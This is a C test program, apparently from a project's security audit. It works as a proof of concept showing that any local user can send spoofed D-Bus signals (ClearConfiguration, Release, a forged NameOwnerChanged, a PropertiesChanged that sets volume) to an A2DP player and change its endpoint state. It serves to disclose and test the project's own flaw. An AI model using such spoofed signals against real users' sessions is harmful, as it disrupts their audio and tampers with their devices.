/*
 * Finding 2 (tests/fuzz/README.md): a2dp/endpoint.c acts on messages from
 * anyone on the system bus. Debian's system bus policy (system.conf) denies
 * method calls unless a service's file allows them (BlueZ allows
 * MediaEndpoint1 calls from root only), but lets ANY local user send a
 * signal to any connection. endpoint_message does not check that the
 * message is a method call, and neither it nor endpoint_filter checks the
 * sender, so a signal from any user, addressed to the player's connection,
 * releases/clears the endpoint (the stream ends with -ENODEV), fakes
 * "bluetoothd went away", or sets the volume.
 *
 * Built and run by run.sh: the project's real export_endpoint(),
 * endpoint_message() and endpoint_filter() on connection A; connection B
 * plays the other local user.
 */
#include "../../../../a2dp/endpoint.c"

#define TRANSPORT "/org/bluez/hci0/dev_00_1B_66_AA_BB_CC/sep1/fd0"

static DBusConnection *connect_bus(const char *address)
{
	DBusError err;
	DBusConnection *c;

	dbus_error_init(&err);
	c = dbus_connection_open_private(address, &err);
	if (!c || !dbus_bus_register(c, &err)) {
		fprintf(stderr, "connect: %s\n", err.message);
		exit(2);
	}
	return c;
}

static void pump_ms(DBusConnection *c, int ms)
{
	int64_t end = dbusx_now_ms() + ms;

	while (dbusx_now_ms() < end)
		dbus_connection_read_write_dispatch(c, 20);
}

static void reset(struct a2dp_endpoint *ep)
{
	ep->configured = 1;
	ep->registered = 1;
	snprintf(ep->transport, sizeof(ep->transport), "%s", TRANSPORT);
	atomic_store(&ep->gone, 0);
	atomic_store(&ep->volume, 30);
}

static void send_from_b(DBusConnection *b, DBusConnection *a, DBusMessage *m)
{
	dbus_message_set_destination(m, dbus_bus_get_unique_name(a));
	dbus_connection_send(b, m, NULL);
	dbus_connection_flush(b);
	dbus_message_unref(m);
	pump_ms(a, 300);
}

static void report(const char *what, struct a2dp_endpoint *ep, int broken)
{
	printf("%-58s configured=%d registered=%d gone=%d volume=%d  %s\n", what, ep->configured,
	       ep->registered, atomic_load(&ep->gone), atomic_load(&ep->volume),
	       broken ? "<- changed by another user's signal" : "");
}

int main(int argc, char **argv)
{
	DBusConnection *a, *b;
	struct bluez bz;
	struct a2dp_endpoint *ep = calloc(1, sizeof(*ep));
	DBusMessage *m, *reply;
	DBusError err;
	const char *path = TRANSPORT, *name = "org.bluez", *old = ":1.7", *none = "", *iface = TRANSPORT_IFACE;
	int broken = 0;

	if (argc < 2)
		return 2;
	a = connect_bus(argv[1]);
	b = connect_bus(argv[1]);
	bz.conn = a;
	ep->bz = &bz;
	ep->codec = &a2dp_codec_sbc;
	ep->fd = -1;
	snprintf(ep->dev.path, sizeof(ep->dev.path), "/org/bluez/hci0/dev_00_1B_66_AA_BB_CC");
	if (export_endpoint(ep) < 0)
		return 2;
	printf("player %s exports %s; the other user is %s\n\n", dbus_bus_get_unique_name(a), ep->path,
	       dbus_bus_get_unique_name(b));

	/* Control: the same ClearConfiguration as a method call is refused by the bus. */
	reset(ep);
	m = dbus_message_new_method_call(dbus_bus_get_unique_name(a), ep->path, ENDPOINT_IFACE,
					 "ClearConfiguration");
	dbus_message_append_args(m, DBUS_TYPE_OBJECT_PATH, &path, DBUS_TYPE_INVALID);
	dbus_error_init(&err);
	reply = dbus_connection_send_with_reply_and_block(b, m, 2000, &err);
	printf("method call ClearConfiguration from the other user: %s\n",
	       reply ? "delivered" : err.name);
	if (reply)
		dbus_message_unref(reply);
	dbus_error_free(&err);
	dbus_message_unref(m);
	pump_ms(a, 200);
	report("  after it:", ep, ep->configured != 1);

	reset(ep);
	m = dbus_message_new_signal(ep->path, ENDPOINT_IFACE, "ClearConfiguration");
	dbus_message_append_args(m, DBUS_TYPE_OBJECT_PATH, &path, DBUS_TYPE_INVALID);
	send_from_b(b, a, m);
	broken += ep->configured != 1;
	report("signal MediaEndpoint1.ClearConfiguration:", ep, ep->configured != 1);

	reset(ep);
	send_from_b(b, a, dbus_message_new_signal(ep->path, ENDPOINT_IFACE, "Release"));
	broken += ep->registered != 1;
	report("signal MediaEndpoint1.Release:", ep, ep->registered != 1);

	reset(ep);
	m = dbus_message_new_signal(DBUS_PATH_DBUS, DBUS_INTERFACE_DBUS, "NameOwnerChanged");
	dbus_message_append_args(m, DBUS_TYPE_STRING, &name, DBUS_TYPE_STRING, &old,
				 DBUS_TYPE_STRING, &none, DBUS_TYPE_INVALID);
	send_from_b(b, a, m);
	broken += atomic_load(&ep->gone) != 0;
	report("signal NameOwnerChanged(org.bluez, :1.7, \"\") not from the bus:", ep,
	       atomic_load(&ep->gone) != 0);

	reset(ep);
	{
		DBusMessageIter it, dict;
		uint16_t vol = 127;

		m = dbus_message_new_signal(TRANSPORT, DBUS_INTERFACE_PROPERTIES, "PropertiesChanged");
		dbus_message_iter_init_append(m, &it);
		dbus_message_iter_append_basic(&it, DBUS_TYPE_STRING, &iface);
		dbus_message_iter_open_container(&it, DBUS_TYPE_ARRAY, "{sv}", &dict);
		dbusx_dict_append(&dict, "Volume", DBUS_TYPE_UINT16, &vol);
		dbus_message_iter_close_container(&it, &dict);
		dbus_message_iter_open_container(&it, DBUS_TYPE_ARRAY, "s", &dict);
		dbus_message_iter_close_container(&it, &dict);
		send_from_b(b, a, m);
	}
	broken += atomic_load(&ep->volume) != 30;
	report("signal PropertiesChanged(Volume=127) not from bluetoothd:", ep,
	       atomic_load(&ep->volume) != 30);

	printf("\n%d of 4 spoofed signals changed the endpoint\n", broken);
	return broken ? 1 : 0;
}
